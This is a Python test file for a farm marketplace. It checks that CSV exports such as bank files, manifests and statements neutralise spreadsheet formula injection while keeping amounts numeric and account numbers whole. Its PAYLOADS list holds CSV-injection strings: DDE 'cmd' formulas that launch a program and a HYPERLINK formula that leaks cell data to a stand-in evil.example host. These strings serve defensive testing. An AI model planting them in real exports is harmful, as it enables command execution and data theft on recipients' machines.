"""Every CSV file we write shows what others typed as text and runs
nothing: farm, buyer, product, bank, programme and county names and notes
that look like formulas come out neutralised, amounts (negative ones too)
stay numbers, and account numbers stay whole."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from market.csv_export import Text, cell, csv_text, kg, yuan
from market.db import business_today, utcnow
from market.extensions import db
from market.payouts.models import Payout, PayoutAccount
from market.premiums import service as premiums
from market.premiums.models import FundedBy
from market.reconciliation.models import Outcome, ReconciliationItem, ReconciliationRun, RunStatus
from tests.payouts.conftest import bank_details, operator, refund, run, settled_order
from tests.shop import Shop, part_of, pay, place, through_centre

# What a hostile farmer, buyer or payee might call themselves.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
    "-",
    "+",
    "=",
]
ACCOUNT_NUMBER = "6228480012345678901"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def app_overrides() -> dict[str, Any]:
    return {"PAYOUT_HOLD_DAYS": 0}


def _rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.lstrip("-").replace(".", "", 1).isdigit()


def _assert_nothing_runs(rows: list[dict[str, str]]) -> None:
    """No cell a spreadsheet would take for a formula: each starts with no
    formula character (after spaces), or is a plain number."""
    for row in rows:
        for column, value in row.items():
            starts = value.lstrip(" ")[:1]
            assert starts not in FORMULA_STARTS or _is_number(value), (column, value)


def _hostile_names(shop: Shop) -> None:
    shop.orchard.name = PAYLOADS[0]
    shop.orchard.county = PAYLOADS[1]
    shop.oranges.product_name = PAYLOADS[4]
    shop.buyer.name = PAYLOADS[2]
    db.session.commit()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_neutralised_and_reads_back_as_typed_after_the_quote(payload: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_text([{"name": payload}], ["name"]).lstrip("\ufeff")))
    assert row["name"] == "'" + payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("-12.50", "-12.50"),  # a refund: a number, not a formula
        (Decimal("-0.01"), "-0.01"),
        (-949, "-949"),
        ("1.500", "1.500"),
        ("0", "0"),
        (None, '""'),
        ("", '""'),
        ("farm@example.org", '"farm@example.org"'),  # @ inside is harmless
        ("1-2", '"1-2"'),
        (ACCOUNT_NUMBER, f'"{ACCOUNT_NUMBER}"'),  # text, quoted: not rounded to 6.22848E+18
        ("012345", '"012345"'),  # a leading zero kept
        ("-1+1", '"\'-1+1"'),
        ('say "hi"', '"say ""hi"""'),
    ],
)
def test_numbers_stay_numbers_and_text_is_quoted(value: object, written: str) -> None:
    line = csv_text([{"v": value}], ["v"]).lstrip("\ufeff").split("\r\n")[1]
    assert line == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Text("12345678"), '"12345678"'),  # a short account number is still text
        (Text("-1"), '"\'-1"'),
        (yuan(1234), "12.34"),
        (yuan(-5), "-0.05"),
        (yuan(10**15 + 1), "10000000000000.01"),  # exact, never through a float
        (yuan(None), '""'),
        (kg(1500), "1.500"),
        (kg(7), "0.007"),
        (kg(2 * 10**9 + 1), "2000000.001"),
    ],
)
def test_money_is_in_yuan_weight_in_kg_and_identifiers_are_text(value: object, written: str) -> None:
    line = csv_text([{"v": value}], ["v"]).lstrip("\ufeff").split("\r\n")[1]
    assert line == written
    assert cell(value) is not None


def test_the_manifest_neutralises_farm_buyer_and_product_names(client: FlaskClient, shop: Shop) -> None:
    _hostile_names(shop)
    order = place(client, shop, (shop.oranges, 1000))
    pay(order["id"])
    part = part_of(order, shop.orchard)
    base = f"/api/v1/orders/{order['id']}/parts/{part['id']}"
    weights = {"weights": [{"line_id": ln["id"], "weighed_g": 1000} for ln in part["lines"]]}
    assert client.post(f"{base}/pack", json=weights, headers=shop.orchard_h).status_code == 200
    assert client.post(f"{base}/ship", headers=shop.orchard_h).status_code == 200
    through_centre(client, shop, part["id"])  # the farm's county is another now

    url = f"/api/v1/fulfilment-points/{shop.station.id}/manifest"
    (row,) = _rows(client.get(url, query_string={"format": "csv"}, headers=shop.staff_h))
    assert (row["farm_name"], row["buyer_name"], row["product_name"]) == (
        "'" + PAYLOADS[0],
        "'" + PAYLOADS[2],
        "'" + PAYLOADS[4],
    )
    assert row["weight_kg"] == "1.000"
    _assert_nothing_runs([row])


def test_the_bank_file_neutralises_payees_and_keeps_account_numbers_whole(client: FlaskClient, shop: Shop) -> None:
    _hostile_names(shop)
    bank_details(client, shop, shop.orchard.id)
    account = db.session.scalars(select(PayoutAccount).where(PayoutAccount.farm_id == shop.orchard.id)).one()
    account.bank_account_holder, account.bank_name = PAYLOADS[3], PAYLOADS[5]
    db.session.commit()
    settled_order(client, shop, (shop.oranges, 1000))
    run_id = run(client, shop).json["id"]

    response = client.get(f"/api/v1/payout-runs/{run_id}/bank-file.csv", headers=shop.operator_h)
    (row,) = _rows(response)
    assert (row["farm"], row["account_holder"], row["bank_name"]) == (
        "'" + PAYLOADS[0],
        "'" + PAYLOADS[3],
        "'" + PAYLOADS[5],
    )
    assert row["account_number"] == ACCOUNT_NUMBER
    text = response.get_data(as_text=True)
    assert f',"{ACCOUNT_NUMBER}",' in text  # quoted, so it is imported as text
    assert ",9.49," in text  # the amount in yuan, a bare number
    _assert_nothing_runs([row])


def test_the_statement_neutralises_items_and_keeps_negative_amounts_numeric(client: FlaskClient, shop: Shop) -> None:
    _hostile_names(shop)
    premiums.create_programme(
        operator(), name=PAYLOADS[6], sponsor=PAYLOADS[7], funded_by=FundedBy.SPONSOR, rate_per_kg=100,
        product_name=shop.oranges.product_name, valid_from=utcnow() - timedelta(days=1), budget_cap=100_000,
    )  # fmt: skip
    bank_details(client, shop, shop.orchard.id)
    order = settled_order(client, shop, (shop.oranges, 2000))
    line = order["parts"][0]["lines"][0]["id"]
    refund(order["id"], line, 500)
    assert run(client, shop).status_code == 201
    payout = db.session.scalars(select(Payout)).one()

    response = client.get(f"/api/v1/payouts/{payout.id}/statement.csv", headers=shop.orchard_h)
    rows = _rows(response)
    sections = {row["section"]: row for row in rows}
    assert sections["sale"]["item"] == "'" + PAYLOADS[4]
    assert sections["premium"]["item"] == "'" + PAYLOADS[6]
    assert sections["refund"]["amount_yuan"].startswith("-")  # data, written as a number
    assert _is_number(sections["refund"]["amount_yuan"])
    assert f",{sections['refund']['amount_yuan']}," in response.get_data(as_text=True)
    _assert_nothing_runs(rows)


def test_the_impact_report_neutralises_county_names(client: FlaskClient, shop: Shop) -> None:
    _hostile_names(shop)
    bank_details(client, shop, shop.orchard.id)
    settled_order(client, shop, (shop.oranges, 1000))
    today = business_today().isoformat()
    response = client.get(
        "/api/v1/reports/impact",
        query_string={"from": today, "to": today, "format": "csv"},
        headers=shop.operator_h,
    )
    rows = _rows(response)
    assert "'" + PAYLOADS[1] in {row["county"] for row in rows}
    _assert_nothing_runs(rows)


def test_reconciliation_items_neutralise_notes_and_provider_text(client: FlaskClient, shop: Shop) -> None:
    now = utcnow()
    reconciliation = ReconciliationRun(
        period_start=now - timedelta(days=2), period_end=now - timedelta(days=1), status=RunStatus.COMPLETED,
        settlement_currency="CNY",
    )  # fmt: skip
    db.session.add(reconciliation)
    db.session.flush()
    db.session.add(
        ReconciliationItem(
            run_id=reconciliation.id, key="k1", provider="stripe", object_type="charge", object_id=PAYLOADS[2],
            ledger_reference=PAYLOADS[9], gateway_amount=-1250, gateway_currency="CNY", ledger_amount=-1200,
            ledger_currency="CNY", reason=PAYLOADS[8], occurred_at=now, outcome=Outcome.AMOUNT_DIFFERS,
            resolution_note=PAYLOADS[1], exchange_rate=Decimal("7.1234"),
        )
    )  # fmt: skip
    db.session.commit()

    response = client.get(f"/api/v1/reconciliations/{reconciliation.id}/items.csv", headers=shop.operator_h)
    (row,) = _rows(response)
    assert (row["object_id"], row["ledger_reference"], row["reason"], row["resolution_note"]) == (
        "'" + PAYLOADS[2],
        "'" + PAYLOADS[9],
        "'" + PAYLOADS[8],
        "'" + PAYLOADS[1],
    )
    assert (row["gateway_amount_major"], row["gateway_currency"], row["exchange_rate"]) == ("-12.50", "CNY", "7.1234")
    assert ",-12.50," in response.get_data(as_text=True)
    _assert_nothing_runs([row])
